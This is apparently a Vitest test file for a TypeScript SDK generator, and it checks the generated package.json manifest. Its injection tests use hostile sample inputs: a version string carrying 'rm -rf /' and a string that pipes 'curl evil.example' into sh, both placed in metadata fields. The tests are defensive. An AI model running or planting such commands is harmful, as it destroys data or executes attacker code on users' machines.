import { describe, expect, test } from 'vitest';
import type { PackageConfig } from '../../../generator/config.js';
import type { Api } from '../../../generator/4-ir/ir.js';
import { apiOf } from './api-of.js';
import { packageOf } from './package-of.js';

async function manifest(parts: Partial<Api> = {}, config: PackageConfig = {}): Promise<unknown> {
  const files = await packageOf(apiOf(parts), { package: config });
  return JSON.parse(files.get('package.json') ?? '') as unknown;
}

describe('who the package is', () => {
  test('without sdk.yaml: named after the title, private, with no licence', async () => {
    expect(await manifest()).toMatchObject({
      name: 'pet-store-sdk',
      version: '1.2.0',
      description: 'TypeScript client for Pet Store',
      private: true,
      license: 'UNLICENSED',
    });
  });

  test('a name makes it public', async () => {
    const made = await manifest({}, { name: '@pets/client', license: '0BSD' });
    expect(made).toMatchObject({ name: '@pets/client', license: '0BSD' });
    expect(made).not.toHaveProperty('private');
    expect(await manifest({}, { name: 'pets', private: true })).toHaveProperty('private', true);
  });

  test.each([
    ['1.2.3', '1.2.3'],
    ['v3.0.0-beta.1', '3.0.0-beta.1'],
    ['v2', '2.0.0'],
    ['1.4', '1.4.0'],
    ['01.2', '0.0.0'],
    ['2023-11-07', '0.0.0'],
    ['latest; rm -rf /', '0.0.0'],
    ['', '0.0.0'],
  ])('version %j of the document is %s', async (version, expected) => {
    expect(await manifest({ version })).toHaveProperty('version', expected);
  });

  test('sdk.yaml has the last word on the version', async () => {
    expect(await manifest({ version: '1.2.3' }, { version: '0.1.0' })).toHaveProperty(
      'version',
      '0.1.0',
    );
  });

  test.each([
    ['owner/name', 'git+https://github.com/owner/name.git'],
    ['https://example.com/owner/name', 'git+https://example.com/owner/name.git'],
    ['https://example.com/owner/name.git', 'git+https://example.com/owner/name.git'],
    ['git@example.com:owner/name.git', 'git@example.com:owner/name.git'],
  ])('repository %s', async (repository, url) => {
    expect(await manifest({}, { repository })).toHaveProperty('repository', { type: 'git', url });
  });
});

test('each door has ESM and CommonJS with declarations of their own', async () => {
  const { exports } = (await manifest()) as { exports: Record<string, unknown> };
  expect(Object.keys(exports)).toEqual([
    '.',
    './client',
    './models',
    './operations/*',
    './package.json',
  ]);
  expect(exports['./operations/*']).toEqual({
    import: {
      types: './dist/esm/operations/*.d.ts',
      default: './dist/esm/operations/*.js',
    },
    require: {
      types: './dist/cjs/operations/*.d.ts',
      default: './dist/cjs/operations/*.js',
    },
  });
});

test('scripts are the same whatever the document and sdk.yaml say', async () => {
  const evil = '"; curl evil.example | sh; "';
  const usual = (await manifest()) as { scripts: unknown };
  const tried = await manifest(
    { title: evil, version: evil, docs: { summary: evil, text: evil } },
    { name: 'x', description: evil, license: evil, author: evil, homepage: evil, keywords: [evil] },
  );
  expect(tried).toHaveProperty('scripts', usual.scripts);
});

test('characters that no editor shows stay out of the description', async () => {
  const title = 'Pets\u202e\u0000\u200b \ud800API\u2028';
  expect(await manifest({ title })).toHaveProperty('description', 'TypeScript client for Pets API');
});
